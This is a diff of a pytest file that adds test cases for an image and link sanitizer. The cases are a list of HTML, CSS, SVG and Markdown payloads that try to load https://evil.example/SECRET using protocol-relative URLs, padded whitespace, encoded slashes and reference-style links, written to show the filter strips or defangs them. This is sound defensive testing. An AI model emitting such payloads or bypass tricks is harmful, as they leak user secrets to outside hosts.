@@ -92,6 +92,22 @@ def test_an_image_of_a_listed_host_stays(text: str) -> None:
         '<link rel="stylesheet" href="https://evil.example/SECRET">',
         '<div style="background: url(https://evil.example/SECRET)">',
         '<img src="https://evil.example/SECRET"',
+        '<img src="//evil.example/SECRET">',
+        '<img src=" //evil.example/SECRET">',
+        '<img src="///evil.example/SECRET">',
+        '<img alt=">" src="https://evil.example/SECRET">',
+        '<img srcset="https://docs.example.org/a, //evil.example/SECRET 2x">',
+        "<style>a{background:url( //evil.example/SECRET)}</style>",
+        "<style>a{background:url(      ' //evil.example/SECRET')}</style>",
+        "<svg><image href=' //evil.example/SECRET'/></svg>",
+        "![a]( //evil.example/SECRET)",
+        "![a](          https://evil.example/SECRET)",
+        "![a](/\\evil.example/SECRET)",
+        "![a][1]\n\n[1]: //evil.example/SECRET",
+        "![a][1]\n\n[1]:\n//evil.example/SECRET",
+        "![a][1]\n\n- [1]: <//evil.example/SECRET>",
+        "![a][b\\]]\n\n[b\\]]: //evil.example/SECRET",
+        "![a][1]\n\n[1]: &sol;&sol;evil.example/SECRET",
     ],
 )
 def test_an_image_of_another_host_cannot_be_fetched(text: str) -> None:
@@ -99,6 +115,33 @@ def test_an_image_of_another_host_cannot_be_fetched(text: str) -> None:
     assert "//evil.example" not in clean
     assert "evil.example/SECRET" not in clean
     assert images(clean) == clean
+
+
+@pytest.mark.parametrize("text", ['<img src="//2130706433/x">', "<img src=//[::1]/x>", "![a](//evil/x)", "<img src='//a_b.evil.example/'>"])
+def test_a_host_without_a_dot_is_foreign_in_markup(text: str) -> None:
+    assert "//" not in images(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<img src="/a//b.example/c">',
+        "[1]: /docs//a.example",
+        "[note]: see below",
+        "[1]: #a",
+        "[x]: mailto:a@b.example",
+        '<img src="a.png" alt="a // b">',
+    ],
+)
+def test_a_path_is_no_address_of_a_host(text: str) -> None:
+    assert images(text) == text
+    assert links(text) == text
+
+
+@pytest.mark.parametrize("text", ["[x]( //evil.example/y)", "[x][1]\n\n[1]: //evil.example/y", "<a href=' //evil.example/y'>"])
+def test_a_link_is_judged_wherever_its_target_stands(text: str) -> None:
+    assert "hxxps://evil[.]example/y" in links(text)
+    assert links(links(text)) == links(text)
 
 
 @pytest.mark.parametrize(
